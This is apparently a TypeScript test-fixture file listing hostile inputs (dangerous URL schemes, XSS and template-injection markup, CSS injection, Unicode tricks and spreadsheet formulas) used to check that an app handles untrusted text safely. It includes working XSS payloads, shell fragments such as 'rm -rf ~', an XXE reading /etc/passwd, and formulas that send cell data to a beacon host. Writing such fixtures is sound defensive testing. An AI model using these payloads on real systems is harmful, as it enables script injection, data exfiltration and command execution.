/** X01–X13, S01–S05, P01: texts that run, reach out or break a layout where they are not taken as texts. `__pwned` is the trip-wire, 192.0.2.1 the beacon. */

const BEACON = 'http://192.0.2.1/b';

/** X01–X04, X10, P01, P05, P08: addresses that must not become links, or not as they stand. */
export const ADDRESSES = [
  ...['javascript:__pwned()', 'JaVaScRiPt:__pwned()', 'java\tscript:__pwned()', 'java\nscript:__pwned()'],
  ...['\u0001javascript:__pwned()', '&#106;avascript:__pwned()', 'javascript&colon;__pwned()'],
  ...['data:text/html,<script>__pwned()</script>', 'vbscript:__pwned()', 'blob:https://x.example/1'],
  ...['filesystem:https://x.example/temporary/x', 'about:blank', 'view-source:https://x.example/'],
  ...[
    'file:///etc/passwd',
    'file://192.0.2.1/share/x',
    '\\\\192.0.2.1\\s\\x',
    'smb://192.0.2.1/x',
    'dav://192.0.2.1/x',
  ],
  ...[
    'ms-msdt:/id PCWDiagnostic',
    'search-ms:query=x',
    'ms-officecmd:{}',
    'vscode://file/etc/passwd',
    'tel:+491',
    'callto:x',
  ],
  ...[
    'x.desktop',
    'C:\\Windows\\System32\\calc.exe',
    'https://a@evil.example/',
    'https://evil.example\\@good.example/',
  ],
  ...[
    '//evil.example/x',
    'https://ex\u0430mple.org/',
    'https://x.example/\u202egpj.exe',
    `https://x.example/${'a'.repeat(100_000)}`,
  ],
  ...[
    'https:evil.example',
    'HTTPS://x.example/%0d%0aSet-Cookie:a=b',
    'mailto:a@x.example?attach=/etc/passwd&body=x',
  ],
  ...[
    'app://bundle/index.html?x=<script>__pwned()</script>',
    'app://bundle/../main.js',
    'index.html',
    'export.html',
  ],
  ...[
    '../../etc/passwd',
    '..\\..\\x',
    '/etc/passwd',
    '%2e%2e%2f',
    '..%252f',
    '....//',
    'ok\u0000.png',
    'ok.png\u0000../../x',
  ],
  ...['x/'.repeat(2500), `${BEACON}.png`],
] as const;

/** X05, X06, X11: markup, templates, ends of what a text may stand in. */
export const MARKUP = [
  '<script>__pwned()</script>',
  '<img src=x onerror=__pwned()>',
  `<img src="${BEACON}">`,
  '<svg onload=__pwned()>',
  '<svg><script>__pwned()</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwned()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=__pwned()>">',
  '<iframe srcdoc="<script>parent.__pwned()</script>"></iframe>',
  '<embed src="app://bundle/index.html">',
  `<object data="${BEACON}"></object>`,
  '<base href=//192.0.2.1/>',
  `<meta http-equiv=refresh content="0;url=${BEACON}">`,
  `<link rel=stylesheet href="${BEACON}">`,
  '<form action=javascript:__pwned()><button formaction=javascript:__pwned()>x</button></form>',
  '<details open ontoggle=__pwned()>x</details>',
  '<template><script>__pwned()</script></template>',
  '<plaintext>',
  '"><img src=x onerror=__pwned()>',
  "'><img src=x onerror=__pwned()>",
  '" onmouseover=__pwned() autofocus onfocus=__pwned() x="',
  '</title><script>__pwned()</script>',
  '</script><script>__pwned()</script>',
  '</style><script>__pwned()</script>',
  '</text></svg><script>__pwned()</script>',
  '</textarea><script>__pwned()</script>',
  ']]><script>__pwned()</script>',
  '--><script>__pwned()</script>',
  '*/__pwned()/*',
  '"};__pwned();//',
  `$${'{'}__pwned()}`,
  '{{7*7}}{{constructor.constructor("__pwned()")()}}',
  '%s%n%x',
  '$(calc)',
  '`calc`',
  '; rm -rf ~',
  '[x](javascript:__pwned()) ![x](http://192.0.2.1/b)',
  '[x]: javascript:__pwned()\n<javascript:__pwned()>',
  'click A call __pwned()\nclick B "javascript:__pwned()"',
  '%%{init: {"securityLevel": "loose"}}%%',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  '<?xml-stylesheet href="http://192.0.2.1/b"?>',
  '&lt;script&gt;__pwned()&lt;/script&gt;',
  '\\u003cscript\\u003e__pwned()',
  '(__pwned\\) /S /JavaScript /JS (__pwned()) /URI (javascript:__pwned())',
] as const;

/** X12: style sheets in what should be a colour, and in texts. */
export const STYLES = [
  `red;background:url(${BEACON})`,
  'url(javascript:__pwned())',
  'expression(__pwned())',
  'var(--x)',
  '#fff}*{display:none',
  `x';@import "${BEACON}";`,
  `#fff;background:url("${BEACON}")`,
] as const;

/** X13: letters that break a line, a place or the direction of reading. */
export const LETTERS = [
  '\u202eevil\u202c \u2066a\u2067b\u2069',
  `z${'\u0301\u0489'.repeat(500)}a`,
  'a\u200b\u200c\u200d\u2060\ufeffb',
  'x'.repeat(100_000),
  '👩‍'.repeat(1000),
  'שלום עולם هذا نص من اليمين إلى اليسار',
  '\u0000\u0007\u001b[31m\u007f\u2028\u2029\ufffe\uffff',
  '\ud800 lone \udc00',
  `${'line\n'.repeat(2000)}`,
] as const;

/** S01–S05: cells that a spreadsheet would work out. */
export const FORMULAS = [
  ...[
    '=1+1',
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "=cmd|'/c calc'!A1",
    '=WEBSERVICE("http://192.0.2.1/b")',
  ],
  ...[
    '=IMPORTXML("http://192.0.2.1/b","//a")',
    '+1',
    '-1+1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '"=1',
    ';=1',
  ],
  ...[
    ',=1',
    '＝1',
    '＋1',
    '－1',
    '＠1',
    '\u200b=1',
    '\ufeff=1',
    '-5 °C',
    '+49 30 1',
    '@team',
    '=)',
    'a,"b";c\nd',
    '='.repeat(40_000),
  ],
] as const;

export interface Payload {
  readonly row: string;
  readonly text: string;
}
const of = (row: string, texts: readonly string[]): Payload[] => texts.map((text) => ({ row, text }));

export const PAYLOADS: readonly Payload[] = [
  ...of('X01', ADDRESSES),
  ...of('X05', MARKUP),
  ...of('X12', STYLES),
  ...of('X13', LETTERS),
  ...of('S01', FORMULAS),
];
